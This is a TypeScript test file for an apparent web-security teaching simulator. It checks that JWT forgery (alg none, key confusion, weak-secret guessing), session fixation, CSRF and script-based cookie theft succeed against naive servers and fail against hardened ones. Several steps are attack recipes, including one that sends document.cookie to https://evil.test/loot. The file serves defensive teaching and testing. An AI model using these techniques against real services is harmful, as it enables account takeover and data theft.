import { describe, expect, test } from "vitest";
import { WEAK_SECRETS } from "../../src/jwt/keys/weak-secrets.ts";
import { World } from "../../src/sim/world.ts";
import { fold } from "../../src/trace/knowledge/fold.ts";
import { serversIn } from "../../src/trace/knowledge/server-view.ts";
import { answer, attempt, eventsOf, LOGIN, last, play, sent, shop } from "./play.ts";

/** The attacks as steps: each one works against the careless server, and is stopped by the careful one. */

const TOKEN = [
  "page fetch POST /login json username=mira password=battery-staple",
  "page keep token in localStorage",
  "attacker take token",
];
const SEND = "attacker send GET /profile bearer forged";
const role = (world: World) => last(world, "access.granted").user.role;

describe("a token that somebody forged", () => {
  test.each([
    ["pinned", "HS256", "attacker forge role=admin", "401 token-signature"],
    ["naive", "HS256", "attacker forge role=admin", "401 token-signature"],
    ["naive", "HS256", "attacker forge role=admin alg HS256", "401 token-signature"],
    ["naive", "HS256", "attacker forge role=admin secret wrong", "401 token-signature"],
    ["pinned", "HS256", "attacker forge role=admin alg none", "401 token-unsigned"],
    ["naive", "HS256", "attacker forge role=admin alg none", "200"],
    ["pinned", "RS256", "attacker forge role=admin alg none", "401 token-unsigned"],
    ["naive", "RS256", "attacker forge role=admin alg none", "200"],
    ["pinned", "RS256", "attacker forge role=admin key public", "401 token-algorithm"],
    ["naive", "RS256", "attacker forge role=admin key public", "200"],
    ["naive", "RS256", "attacker forge role=admin secret wrong", "401 token-signature"],
  ])("%s verifier, %s: %s → %s", (verifier, algorithm, forge, expected) => {
    const world = shop(
      "jwt-header",
      `server set verifier ${verifier}`,
      `server set algorithm ${algorithm}`,
      ...TOKEN,
      "attacker send GET /public-key",
      forge,
      SEND,
    );
    expect(answer(world)).toBe(expected);
    if (expected === "200") expect(role(world)).toBe("admin");
  });

  test("the naive verifier says what it checked with, and still asks for the time", () => {
    const naive = ["server set algorithm RS256", "server set verifier naive", ...TOKEN];
    const none = shop("jwt-header", ...naive, "attacker forge role=admin alg none", SEND);
    expect(last(none, "token.verified")).toMatchObject({ alg: "none", kid: null });
    const fetched = [...naive, "attacker send GET /public-key", "attacker forge role=admin key public"];
    const confused = shop("jwt-header", ...fetched, SEND);
    expect(last(confused, "token.verified")).toMatchObject({ alg: "HS256", kid: "key-1" });
    expect(answer(shop("jwt-header", ...fetched, "wait 15m", SEND))).toBe("401 token-expired");
    expect(answer(play(none, "wait 15m", SEND))).toBe("401 token-expired");
  });

  test("alg none with a signature all the same is none that it believes", () => {
    const world = shop(
      "jwt-header",
      "server set verifier naive",
      ...TOKEN,
      "attacker forge role=admin alg none",
    );
    const { token } = last(world, "token.forged");
    play(world, `attacker send GET /profile bearer ${token}abc`);
    expect(answer(world)).not.toBe("200");
  });

  test.each(["", "abc", Buffer.from("[1]").toString("base64url"), Buffer.from("null").toString("base64url")])(
    "a payload that is no claims is refused by both: %j",
    (payload) => {
      const header = Buffer.from('{"alg":"none"}').toString("base64url");
      for (const verifier of ["naive", "pinned"]) {
        const world = shop("jwt-header", `server set verifier ${verifier}`);
        play(world, `attacker send GET /profile bearer ${header}.${payload}.`);
        expect(last(world, "response.sent").response.status).toBe(401);
      }
    },
  );

  test("an honest token is good at a naive verifier too", () => {
    for (const algorithm of ["HS256", "RS256"]) {
      const world = shop(
        "jwt-header",
        "server set verifier naive",
        `server set algorithm ${algorithm}`,
        ...TOKEN,
      );
      expect(answer(play(world, "attacker send GET /profile bearer held"))).toBe("200");
      expect(role(world)).toBe("reader");
    }
  });

  test("a user forges in his own page by the same options", () => {
    const world = shop(
      "jwt-header",
      "server set verifier naive",
      ...TOKEN,
      "page change localStorage.token role=admin alg none",
      "page fetch GET /profile bearer localStorage.token",
    );
    expect(last(world, "token.forged")).toMatchObject({ actor: "browser", alg: "none", with: "nothing" });
    expect(answer(world)).toBe("200");
  });

  test("a change of the payload alone is no signing, and is told by what is kept", () => {
    const world = shop("jwt-header", ...TOKEN, "page change localStorage.token role=admin");
    expect(eventsOf(world, "token.forged")).toEqual([]);
    const [before, after] = [last(world, "token.signed").token, last(world, "token.stored").value];
    expect(after.split(".")[0]).toBe(before.split(".")[0]);
    expect(after.split(".")[2]).toBe(before.split(".")[2]);
    expect(after).not.toBe(before);
  });
});

describe("the public key", () => {
  test("is shown by a server that signs with a private one", () => {
    const world = shop("jwt-header", "server set algorithm RS256", "attacker send GET /public-key");
    expect(last(world, "response.sent").response.body).toMatch(
      /^-----BEGIN PUBLIC KEY-----\n[^-]+-----END PUBLIC KEY-----$/,
    );
  });

  test.each(["session", "jwt-header"] as const)("there is none in mode %s with HS256", (mode) => {
    expect(answer(shop(mode, "attacker send GET /public-key"))).toBe("404 no-such-page");
  });
});

describe("a secret that is a word", () => {
  const weak = (secret: string) => ["server set secret ".concat(secret), ...TOKEN, "attacker guess secret"];

  test("is guessed, and what is signed with it is believed", () => {
    const world = shop("jwt-header", ...weak("secret123"), "attacker forge role=admin key guessed", SEND);
    const tries = WEAK_SECRETS.indexOf("secret123") + 1;
    expect(last(world, "secret.guessed")).toMatchObject({ secret: "secret123", tries });
    expect(answer(world)).toBe("200");
    expect(role(world)).toBe("admin");
  });

  test("a random one is not, after every try", () => {
    const world = shop("jwt-header", ...weak("random"));
    expect(last(world, "secret.guessed")).toMatchObject({ secret: null, tries: WEAK_SECRETS.length });
    expect(attempt(world, "attacker forge role=admin key guessed")).toContain("attacker guess secret");
  });

  test("another secret is another key, and a rotated key is a random one", () => {
    const world = shop("jwt-header", ...TOKEN, "server set secret secret123");
    expect(answer(play(world, "attacker send GET /profile bearer held"))).toBe("401 token-unknown-key");
    play(world, "server rotate key", ...TOKEN, "attacker guess secret");
    expect(last(world, "secret.guessed").secret).toBeNull();
  });

  test("set before the mode it is the first key; with RS256 it waits", () => {
    const early = play(
      new World(),
      "server start shop.test",
      "server set secret secret123",
      "server set mode jwt-header",
    );
    expect(last(early, "key.rotated").kid).toBe("key-1");
    const rsa = shop("jwt-header", "server set algorithm RS256", "server set secret secret123");
    expect(eventsOf(rsa, "key.rotated").map((e) => e.alg)).toEqual(["HS256", "RS256"]);
  });
});

describe("what the attacker cannot do yet says what to do first", () => {
  test.each([
    ["attacker take token", "Log somebody in first"],
    ["attacker forge role=admin", "attacker take token"],
    ["attacker guess secret", "attacker take token"],
    ["attacker send GET /profile bearer held", "attacker take token"],
    ["attacker send GET /profile bearer forged", "attacker forge role=admin"],
    ["attacker forge role=admin key public", "attacker send GET /public-key"],
    ["attacker forge role=admin key guessed", "attacker guess secret"],
    ["attacker forge role=admin alg none secret x", "neither a secret nor a key"],
    ["attacker forge role=admin secret x key public", "not both"],
  ])("%s", (step, message) => {
    expect(attempt(shop("jwt-header"), step)).toContain(message);
  });

  test("a token that is not signed with a secret cannot be guessed", () => {
    const world = shop("jwt-header", "server set algorithm RS256", ...TOKEN);
    expect(attempt(world, "attacker guess secret")).toContain("HS256");
  });
});

describe("a session ID that somebody planted", () => {
  const PLANT = [
    "server start api.shop.test",
    'server route /plant sets "sessionId=x9; Path=/; Domain=shop.test; Secure" at api.shop.test',
    "browser open https://api.shop.test/plant",
    "browser open https://shop.test/login",
    LOGIN,
  ];
  const WIDE = 'server set cookie "Path=/; Domain=shop.test; HttpOnly; Secure; SameSite=Lax"';
  const USE = 'attacker send GET /profile cookie "sessionId=x9"';

  test("is good for the attacker after the login, where the login keeps it", () => {
    const world = shop("session", "server set renew-id no", WIDE, ...PLANT, USE);
    expect(last(world, "session.adopted").sessionId).toBe("x9");
    expect(eventsOf(world, "session.created")).toEqual([]);
    expect(answer(world)).toBe("200");
    expect(last(world, "access.granted").user.name).toBe("shivam");
  });

  test("is good for nothing, where the login gets a new one", () => {
    const world = shop("session", WIDE, ...PLANT, USE);
    expect(answer(world)).toBe("401 session-not-found");
    expect(answer(play(world, "browser open /profile"))).toBe("200");
  });

  test("beside a cookie without Domain it stays, and hides the new one from the server", () => {
    const world = shop("session", ...PLANT, "browser open /profile");
    expect(sent(world, "Cookie")).toBe("sessionId=x9; sessionId=abc123");
    expect(answer(world)).toBe("401 session-not-found");
  });

  test("a second login with the same ID leaves one row", () => {
    const world = shop(
      "session",
      "server set renew-id no",
      WIDE,
      ...PLANT,
      `browser submit /login with username=mira password=battery-staple`,
    );
    expect(
      world.network
        .server()
        .sessions.list()
        .map((r) => [r.sessionId, r.userId]),
    ).toEqual([["x9", 46]]);
    expect(eventsOf(world, "session.deleted")).toEqual([]);
    expect(serversIn(fold(world.trace))[0]?.sessions).toEqual(world.network.server().sessions.list());
  });

  test("a login without a cookie gets a new ID in any case", () => {
    expect(last(shop("session", "server set renew-id no", LOGIN), "session.created").sessionId).toBe(
      "abc123",
    );
  });

  test("cannot be planted where the name begins with __Host-", () => {
    const world = shop(
      "session",
      "server set renew-id no",
      "server set cookie-name __Host-sid",
      ...PLANT.map((step) => step.replace("sessionId=x9", "__Host-sid=x9")),
    );
    expect(last(world, "cookie.rejected").refusal.code).toBe("host-prefix-broken");
    expect(last(world, "cookie.stored").cookie.name).toBe("__Host-sid");
    expect(answer(play(world, "browser open /profile"))).toBe("200");
    expect(answer(play(world, 'attacker send GET /profile cookie "__Host-sid=x9"'))).toBe(
      "401 session-not-found",
    );
  });
});

test.each([
  ["session", "sid"],
  ["jwt-cookie", "__Host-token"],
  ["naive-cookie", "who"],
] as const)("in mode %s the cookie can have another name, from login to logout", (mode, name) => {
  const world = shop(mode, `server set cookie-name ${name}`, LOGIN, "browser open /profile");
  expect(last(world, "cookie.stored").cookie.name).toBe(name);
  expect(answer(world)).toBe("200");
  play(world, "browser submit /logout", "browser open /profile");
  expect(answer(world)).toBe("401 no-cookie");
  expect(last(world, "access.denied").refusal.reason).toContain(name);
});

describe("a form of another site", () => {
  const OPEN = 'server set cookie "Path=/; HttpOnly; Secure; SameSite=None"';
  const LAX = 'server set cookie "Path=/; HttpOnly; Secure; SameSite=Lax"';
  const FORGED = [
    "browser open https://evil.test/",
    "browser submit https://shop.test/transfer with to=mallory amount=900",
  ];
  const OWN = ["browser open https://shop.test/transfer", "browser submit /transfer with to=mira amount=5"];

  test.each([
    ["none", OPEN, "200"],
    ["none", LAX, "401 no-cookie"],
    ["token", OPEN, "403 csrf-missing"],
    ["origin", OPEN, "403 csrf-origin"],
  ])("csrf %s, %s → %s", (rule, cookie, expected) => {
    const world = shop("session", cookie, LOGIN, `server set csrf ${rule}`, ...FORGED);
    expect(answer(world)).toBe(expected);
    const made = eventsOf(world, "transfer.made").map(({ user, to, amount }) => [user, to, amount]);
    expect(made).toEqual(expected === "200" ? [["shivam", "mallory", 900]] : []);
  });

  test.each(["none", "token", "origin"])("the server's own form counts with csrf %s", (rule) => {
    for (const mode of ["session", "jwt-cookie", "naive-cookie"] as const) {
      const world = shop(mode, LOGIN, `server set csrf ${rule}`, ...OWN);
      expect(answer(world)).toBe("200");
      expect(last(world, "transfer.made")).toMatchObject({ to: "mira", amount: 5, server: "shop.test" });
      expect(eventsOf(world, "csrf.checked").map((e) => e.refusal)).toEqual(rule === "none" ? [] : [null]);
    }
  });

  test("the token goes along from the form's page alone, and only where the form leads", () => {
    const world = shop("session", LOGIN, "server set csrf token", "browser open /transfer");
    const { token } = last(world, "csrf.issued");
    expect(last(world, "page.opened").text).toBe("Send money");
    play(world, "browser submit /login with username=shivam password=x");
    expect(last(world, "request.sent").request.body).not.toContain(token);
    play(world, "browser submit /transfer with to=mira amount=5");
    expect(answer(world)).toBe("403 csrf-missing");
  });

  test("a token of another login does not count", () => {
    const world = shop("session", LOGIN, "server set csrf token", "browser open /transfer");
    const { token } = last(world, "csrf.issued");
    play(world, "browser submit /login with username=mira password=battery-staple");
    play(world, `browser submit /transfer with to=mira amount=5 csrf=${token}`);
    expect(answer(world)).toBe("403 csrf-wrong");
  });

  test("the token is the same for one login, and gone after a restart", () => {
    const world = shop(
      "session",
      "server set store shared",
      LOGIN,
      "server set csrf token",
      "browser open /transfer",
    );
    play(world, "browser open /transfer");
    const tokens = eventsOf(world, "csrf.issued").map((e) => e.token);
    expect(tokens[0]).toBe(tokens[1]);
    play(world, "server restart", "browser submit /transfer with to=mira amount=5");
    expect(answer(world)).toBe("403 csrf-wrong");
  });

  test("random ids have random CSRF tokens, of 128 bits", () => {
    const world = shop(
      "session",
      "server set ids random",
      LOGIN,
      "server set csrf token",
      "browser open /transfer",
    );
    expect(last(world, "csrf.issued").token).toMatch(/^[0-9a-f]{32}$/);
  });

  test("a tool that names no origin is refused as well", () => {
    const world = shop("session", LOGIN, "server set csrf origin");
    play(world, 'attacker send POST /transfer cookie "sessionId=abc123"');
    expect(answer(world)).toBe("403 csrf-no-origin");
    expect(last(world, "csrf.checked").value).toBeNull();
  });

  test.each(["browser follow https://shop.test/transfer?to=mallory&amount=900", `${FORGED[1]} using GET`])(
    "%s: the Lax cookie goes along, and nothing is sent",
    (step) => {
      const world = shop("session", LAX, LOGIN, "browser open https://evil.test/", step);
      expect(sent(world, "Cookie")).toBe("sessionId=abc123");
      expect(answer(world)).toBe("200");
      expect(eventsOf(world, "transfer.made")).toEqual([]);
    },
  );

  test.each(["", "to=mira", "to=mira amount=-5", "to=mira amount=1.5", "to=mira amount=0", "amount=5"])(
    "a form that says too little is told so: %s",
    (values) => {
      const world = shop("session", LOGIN, "browser open /transfer");
      play(world, values === "" ? "browser submit /transfer" : `browser submit /transfer with ${values}`);
      expect(answer(world)).toBe("400 form-incomplete");
    },
  );

  test("nobody sends money who is not known", () => {
    expect(answer(shop("session", "browser submit /transfer with to=mira amount=5"))).toBe("401 no-cookie");
  });
});

describe("a script that was slipped into the page", () => {
  const STEAL = "page send document.cookie to https://evil.test/loot";

  test.each([
    ["Path=/; Secure", "sessionId=abc123"],
    ["Path=/; Secure; HttpOnly", ""],
  ])("cookie %s: the loot is %j", (attributes, loot) => {
    const world = shop("session", `server set cookie "${attributes}"`, LOGIN, STEAL);
    const { request, cause } = last(world, "request.sent");
    expect([request.method, request.url, request.body, cause]).toEqual([
      "POST",
      "https://evil.test/loot",
      loot,
      "fetch",
    ]);
  });

  test.each(["localStorage", "sessionStorage", "memory"])("a token in %s is sent as it is", (area) => {
    const world = shop(
      "jwt-header",
      "page fetch POST /login json username=shivam password=correct-horse",
      `page keep token in ${area}`,
      `page send ${area}.token to https://evil.test/loot`,
      "attacker take token",
      "attacker send GET /profile bearer held",
    );
    expect(last(world, "token.taken").token).toBe(last(world, "token.signed").token);
    expect(answer(world)).toBe("200");
  });

  test("nobody is asked first, nothing is refused, and the answer tells the script nothing", () => {
    const world = shop("session", 'server route /loot says "Thank you" at evil.test', LOGIN, STEAL);
    expect(eventsOf(world, "request.sent").filter((e) => e.cause === "preflight")).toEqual([]);
    expect(eventsOf(world, "response.blocked")).toEqual([]);
    expect(sent(world, "Origin")).toBe("https://shop.test");
    expect(last(world, "response.sent").response.body).toBe("Thank you");
    expect(world.browser.tab?.shown?.lastAnswer).toBeNull();
  });

  test("a redirect of the thief's server is followed all the same", () => {
    const world = shop("session", "server route /loot redirects /more at evil.test", STEAL);
    expect(last(world, "request.sent").request.url).toBe("https://evil.test/more");
  });
});

test.each([
  ["attacker send GET /profile", "Bearer"],
  ["attacker send GET /profile bearer abc", 'Bearer error="invalid_token"'],
  ["attacker send POST /refresh", "Bearer"],
  ['attacker send POST /refresh cookie "refresh=r9"', "Bearer"],
])("%s is answered WWW-Authenticate: %s", (step, challenge) => {
  const { response } = last(shop("jwt-header", "server set refresh 7d", step), "response.sent");
  expect(response.fields).toContainEqual({ name: "WWW-Authenticate", value: challenge });
});

test("a route's words stay when it gets a cookie to set, and the other way round", () => {
  const world = shop(
    "none",
    'server route /hi says "Good day"',
    'server route /hi sets "a=1"',
    "browser open /hi",
  );
  expect(last(world, "response.sent").response).toMatchObject({ status: 200, body: "Good day" });
  expect(last(world, "cookie.stored").cookie.name).toBe("a");
});
